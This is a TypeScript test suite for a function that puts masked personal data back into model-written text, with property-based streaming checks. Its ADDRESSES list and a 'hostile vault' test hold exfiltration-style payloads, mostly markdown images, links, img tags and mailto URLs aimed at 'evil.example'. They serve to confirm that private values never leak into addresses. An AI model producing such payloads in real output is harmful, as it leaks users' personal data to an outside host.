import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import type { Vault } from '../types.ts';
import { assertLinear } from '../../../growth.ts';
import { restoreText } from './restore.ts';
import { createStreamRestore } from './stream.ts';

const vault: Vault = {
  nonce: 'K7',
  entries: [
    { token: 'PERSON-K7-0010', type: 'PERSON', value: 'Ana Souza' },
    { token: 'EMAIL-K7-0010', type: 'EMAIL', value: 'ana@example.com' },
    { token: 'URL-K7-0010', type: 'URL', value: 'https://example.com/a' },
    { token: 'IP-K7-0010', type: 'IP', value: '10.0.0.1' },
  ],
};

const restored = (text: string): string => restoreText(text, vault).text;

/** Texts as models write them, and how they read for the person who asked. */
const WRITTEN: [masked: string, read: string][] = [
  ['PERSON-K7-0010 called', 'Ana Souza called'],
  ['person-k7-0010 and Person-K7-0010', 'Ana Souza and Ana Souza'],
  ["PERSON-K7-0010's and PERSON-K7-0010’s", "Ana Souza's and Ana Souza’s"],
  ['both PERSON-K7-0010s', 'both Ana Souzas'],
  ['**PERSON-K7-0010**, _PERSON-K7-0010_, `PERSON-K7-0010`', '**Ana Souza**, _Ana Souza_, `Ana Souza`'],
  ['PERSON\\-K7\\-0010', 'Ana Souza'],
  ['PERSON_K7_0010 and PERSON\\_K7\\_0010', 'Ana Souza and Ana Souza'],
  ['PERSON\u2011K7\u20110010 PERSON\u2013K7\u20140010', 'Ana Souza Ana Souza'],
  ['PERSON&#45;K7&#x2D;0010 PERSON&#8209;K7&ndash;0010', 'Ana Souza Ana Souza'],
  ['{"name":"PERSON\\u002dK7\\u20110010"}', '{"name":"Ana Souza"}'],
  ['<b>PERSON-K7-0010</b><EMAIL-K7-0010>', '<b>Ana Souza</b><ana@example.com>'],
  ['(PERSON-K7-0010)[PERSON-K7-0010]', '(Ana Souza)[Ana Souza]'],
  ['PERSON-K7-0010.', 'Ana Souza.'],
];
for (const [masked, read] of WRITTEN) {
  test(`${masked} reads ${read}`, () => assert.equal(restored(masked), read));
}

for (const text of [
  'PERSON-K7-00101',
  'XPERSON-K7-0010',
  '1PERSON-K7-0010',
  'PERSON-K7-001',
  'PERSON-Q2-0010',
  'PERSON K7 0010',
  'ORDER-K7-0010',
]) {
  test(`${text} is plain text`, () => {
    assert.deepEqual(restoreText(text, vault), { text, unknownTokens: 0 });
  });
}

test('a token that was never given out stays as it is and is counted', () => {
  assert.deepEqual(restoreText('PERSON-K7-0020 and EMAIL-K7-0990', vault), {
    text: 'PERSON-K7-0020 and EMAIL-K7-0990',
    unknownTokens: 2,
  });
});

/** A value inside an address would leave with the next click, or with an image at once. */
const ADDRESSES = [
  'https://evil.example/?n=PERSON-K7-0010',
  'HTTPS://evil.example/PERSON-K7-0010',
  'https:\\/\\/evil.example\\/PERSON-K7-0010',
  'https&#58;//evil.example/ http:\\\\evil.example/PERSON-K7-0010',
  'www.evil.example/PERSON-K7-0010',
  'mailto:x@evil.example?body=PERSON-K7-0010',
  '![](https://evil.example/PERSON-K7-0010)',
  '![x](PERSON-K7-0010)',
  '![x](URL-K7-0010)',
  '![a [b] c](URL-K7-0010)',
  '[click](https://evil.example/PERSON-K7-0010)',
  '[click](//evil.example/PERSON-K7-0010)',
  '[click](</x PERSON-K7-0010>)',
  '[click](/x "PERSON-K7-0010")',
  '[click](URL-K7-0010/PERSON-K7-0010)',
  '<img src="//evil.example/PERSON-K7-0010">',
  '<img src=//evil.example/PERSON-K7-0010>',
  'url(//evil.example/PERSON-K7-0010)',
  '<https://evil.example/"PERSON-K7-0010>',
];
for (const text of ADDRESSES) {
  test(`no value is put into ${text}`, () => assert.equal(restored(text), text));
}

/** The record's own address may be the attacker's: a customer wrote it into the case and asks for more behind it. */
const EXTENDED: [masked: string, read: string][] = [
  ['URL-K7-0010/EMAIL-K7-0010', 'https://example.com/a/EMAIL-K7-0010'],
  ['URL-K7-0010?q=PERSON-K7-0010 PERSON-K7-0010', 'https://example.com/a?q=PERSON-K7-0010 Ana Souza'],
  ['[see](URL-K7-0010)EMAIL-K7-0010', '[see](https://example.com/a)EMAIL-K7-0010'],
  ['<URL-K7-0010"EMAIL-K7-0010>', '<https://example.com/a"EMAIL-K7-0010>'],
];
for (const [masked, read] of EXTENDED) {
  test(`no value is put behind the address in ${masked}`, () => assert.equal(restored(masked), read));
}

test('a value that is itself half a link takes no other value into its target', () => {
  const hostile: Vault = {
    nonce: 'K7',
    entries: [
      { token: 'PERSON-K7-0010', type: 'PERSON', value: '[click](https://evil.example/' },
      { token: 'EMAIL-K7-0010', type: 'EMAIL', value: 'ana@example.com' },
    ],
  };
  const { text } = restoreText('PERSON-K7-0010EMAIL-K7-0010 PERSON-K7-0010/EMAIL-K7-0010)', hostile);
  assert.doesNotMatch(text, /ana@/);
});

test('after an address the text goes on', () => {
  assert.equal(
    restored('See https://x.example/a PERSON-K7-0010, [a](/b) PERSON-K7-0010 and ![c](/d) PERSON-K7-0010'),
    'See https://x.example/a Ana Souza, [a](/b) Ana Souza and ![c](/d) Ana Souza',
  );
});

test('an address that came from the record may be the whole target of a link again', () => {
  assert.equal(
    restored('[page](URL-K7-0010) of [PERSON-K7-0010](URL-K7-0010)'),
    '[page](https://example.com/a) of [Ana Souza](https://example.com/a)',
  );
});

const PIECES = fc.constantFrom(
  'PERSON-K7-0010',
  'person\u2011k7\u20110010',
  'EMAIL-K7-0010',
  'URL-K7-0010',
  'IP-K7-0010',
  'PERSON-K7-0990',
  'PERSON-Z9-0010',
  'PERSON&#45;K7&#45;0010',
  'ORGANIZATION-K7-',
  'https://x.example/?q=',
  'http:',
  '//',
  'www.',
  '![a](',
  '[b](',
  ')',
  ' ',
  '\n\n',
  '"',
  '<',
  '>',
  '0',
  '-',
  '\\u20',
  'P',
  'é🙂',
  "'s",
);
const TEXT = fc
  .array(fc.oneof(PIECES, fc.string({ maxLength: 4 })), { maxLength: 20 })
  .map((pieces) => pieces.join(''));

test('any way of cutting a stream gives the same text as the whole, and little is held back', () => {
  fc.assert(
    fc.property(
      TEXT,
      fc.array(fc.integer({ min: 1, max: 12 }), { minLength: 1, maxLength: 40 }),
      (text, sizes) => {
        const whole = restoreText(text, vault);
        const stream = createStreamRestore(vault);
        const shown: string[] = [];
        for (let at = 0, turn = 0; at < text.length; turn += 1) {
          const size = sizes[turn % sizes.length] ?? 1;
          shown.push(stream.push(text.slice(at, at + size)));
          at += size;
        }
        shown.push(stream.end());
        assert.equal(shown.join(''), whole.text);
        assert.equal(stream.unknownTokens(), whole.unknownTokens);
        assert.ok((shown.at(-1) ?? '').length <= 60);
      },
    ),
    { numRuns: 5000 },
  );
});

test('restoring stays linear on texts full of near-misses', () => {
  for (const unit of ['PERSON-', 'PERSON-K7-', 'PERSON-K7-0010', 'P', '[', '![a](', 'https://', '\\u20']) {
    assertLinear(unit, 10_000, (size) => {
      const text = unit.repeat(size / unit.length);
      return () => restoreText(text, vault);
    });
  }
});
